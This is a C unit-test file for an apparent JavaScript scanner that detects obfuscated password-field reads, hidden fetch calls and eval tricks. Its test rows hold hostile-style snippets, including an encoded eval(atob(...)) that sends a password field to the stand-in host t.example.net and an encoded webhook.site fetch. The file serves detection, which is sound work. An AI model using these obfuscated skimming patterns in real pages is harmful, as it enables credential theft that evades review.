// SPDX-License-Identifier: MIT
/* What is taken apart or encoded is found all the same, and it is said that it was hidden. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

#include "script_words.h"

#define N_OF(a) (sizeof(a) / sizeof((a)[0]))

enum { HOSTILE_BYTES = 60000 };

static struct ex_walk walk;

static struct ex_script_finds look(struct ex_span script)
{
    const struct ex_script_task task = { .where = script_where };
    struct ex_script_finds f;

    ex_script_look(&walk, &task, script, &f);
    return f;
}

static void decodes(void **state)
{
    static const struct {
        const char *script, *features;
        bool decoded;
    } rows[] = {
        { "x = gbid('password').value", "C1", false },
        { "x = gbid('pass' + 'wo' + 'rd').value", "C1", true },
        { "x = gbid(('pass') + ('word')).value", "C1", true },
        { "x = gbid('\\x70assword').value", "C1", true },
        { "x = gbid('\\u0070assword').value", "C1", true },
        { "x = gbid('\\u{70}assword').value", "C1", true },
        { "x = gbid('\\160assword').value", "C1", true },
        { "x = gbid('pass\\\nword').value", "C1", true },
        { "x = gbid(unescape('%70assword')).value", "C1", true },
        { "x = gbid(atob('cGFzc3dvcmQ=')).value", "C1", true },
        { "x = gbid(window.atob('cGFzc3dvcmQ')).value", "C1", true },
        { "x = gbid(String.fromCharCode(112,97,115,115,119,111,114,100)).value", "C1", true },
        { "x = gbid(String.fromCharCode(0x70,97,115,115,119,111,114,100)).value", "C1", true },
        { "var c = String.fromCharCode; x = gbid(c(112,97,115,115,119,111,114,100))"
          "[c(118,97,108,117,101)]",
          "C1", true },
        { "x = gbid(['pass', 'word'].join('')).value", "C1", true },
        { "x = gbid('drowssap'.split('').reverse().join('')).value", "C1", true },
        { "var a = 'pass', b = 'word'; x = gbid(a + b).value", "C1", true },
        { "var a = 'pass'; a += 'word'; x = gbid(a).value", "C1", true },
        { "var a = ['value', 'password']; x = gbid(a[1])[a[0]]", "C1", true },
        { "x = g\\u0062id('password').value", "C1", false }, /* whatever the function is called */
        { "x = document.logonForm.p\\u0061ssword.value", "C1", true },
        { "new window['XMLHttp' + 'Request']()", "S1", true },
        { "new window['XMLHttpRequest']()", "S1", false },
        { "window['fe' + 'tch'](u)", "S1", true },
        { "fetch(atob('aHR0cHM6Ly90LmV4YW1wbGUubmV0Lw=='))", "S1 S3", true },
        { "fetch('aHR0cHM6Ly93ZWJob29rLnNpdGUvYWJj')", "S1 S4", true },
        { "fetch('htt' + 'ps://t.exam' + 'ple.net')", "S1 S3", true },
        { "fetch('https%3a%2f%2ft.example.net%2f')", "S1 S3", true },
        /* eval(atob("fetch('//t.example.net?'+gbid('password').value)")) */
        { "eval(atob('ZmV0Y2goJy8vdC5leGFtcGxlLm5ldD8nK2diaWQoJ3Bhc3N3b3JkJykudmFsdWUp'))",
          "C1 S1 S3 O1", true },
        { "setTimeout('x = gbid(\"password\").value', 1)", "C1 O1", true },
        { "eval('\\x66etch(u)')", "S1 O1", true },
        { "var c = 'fetch(u)'; eval(c)", "S1 O1", true },
        { "u = '//t.example.net/'; eval('fetch(u)')", "S1 S3 O1", true },
        /* Nothing hides behind a literal that is none. */
        { "if (a) /'/.test(b); fetch(u)", "S1", false },
        { "if (a) /[/'\"]/.test(b); fetch(u)", "S1", false },
        { "x = y / 2; fetch(u); z = w / 2", "S1", false },
        { "x = {} / fetch(u) / 1", "S1", true },
        { "x = 'it is\nfetch(u)", "S1", false },
        { "x = `a${`b${fetch(u)}`}`", "S1", false },
        { "// a\xe2\x80\xa8"
          "fetch(u)",
          "S1", false },
        { "// a\rfetch(u)", "S1", false },
        { "/* a */fetch(u)/* b */", "S1", false },
        { "--> fetch(u)", "", false },
        /* Plain words that look like base64. */
        { "x = 'mainLogonDivClassName'; y = 'ABCDEFGHIJKLMNOP'", "", false },
    };
    unsigned bad = 0;

    (void)state;
    for (size_t i = 0; i < N_OF(rows); i++) {
        const struct ex_script_finds f = look(ex_span_str(rows[i].script));
        char words[WORDS_SIZE];

        if (strcmp(words_of(words, f.features), rows[i].features) == 0 &&
            f.decoded == rows[i].decoded)
            continue;
        fprintf(stderr, "%s\n  is \"%s\"%s, not \"%s\"%s\n", rows[i].script, words,
                f.decoded ? " decoded" : "", rows[i].features, rows[i].decoded ? " decoded" : "");
        bad++;
    }
    assert_int_equal(bad, 0);
}

static void long_encoded_literals_are_noted(void **state)
{
    char script[512] = "x = '";
    size_t n = strlen(script);
    struct ex_script_finds f;

    (void)state;
    for (size_t i = 0; i < 200; i++)
        script[n++] = "QkJ3"[i % 4];
    memcpy(script + n, "'", 2);
    f = look(ex_span_str(script));
    assert_int_equal(f.features, 1 << EX_FEAT_O1);
    memcpy(script + n - 1, "'", 2);
    f = look(ex_span_str(script));
    assert_int_equal(f.features, 0);
}

/* Texts that grow, and brackets that never end, cost no more memory than there is; what was left
 * out is said. */
static void stays_within_its_memory(void **state)
{
    static const struct {
        const char *unit;
        bool full;
    } rows[] = {
        { "(", true },
        { "a=b;", false },
        { "'a'+", false },
        { "[", true },
        { "`${", true },
        { "v='aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';x=v+v+v+v+v;", true },
    };
    char *script = malloc(HOSTILE_BYTES);
    unsigned bad = 0;

    (void)state;
    assert_non_null(script);
    for (size_t i = 0; i < N_OF(rows); i++) {
        size_t n = 0;

        while (n + strlen(rows[i].unit) <= HOSTILE_BYTES) {
            memcpy(script + n, rows[i].unit, strlen(rows[i].unit));
            n += strlen(rows[i].unit);
        }
        const struct ex_script_finds f = look((struct ex_span){ (const uint8_t *)script, n });

        assert_true(walk.tokens.n <= EX_TOKENS_MAX && walk.tokens.n_text <= EX_TEXT_MAX);
        if (f.full != rows[i].full) {
            fprintf(stderr, "%s: full is %d\n", rows[i].unit, f.full);
            bad++;
        }
    }
    free(script);
    assert_int_equal(bad, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(decodes),
        cmocka_unit_test(long_encoded_literals_are_noted),
        cmocka_unit_test(stays_within_its_memory),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
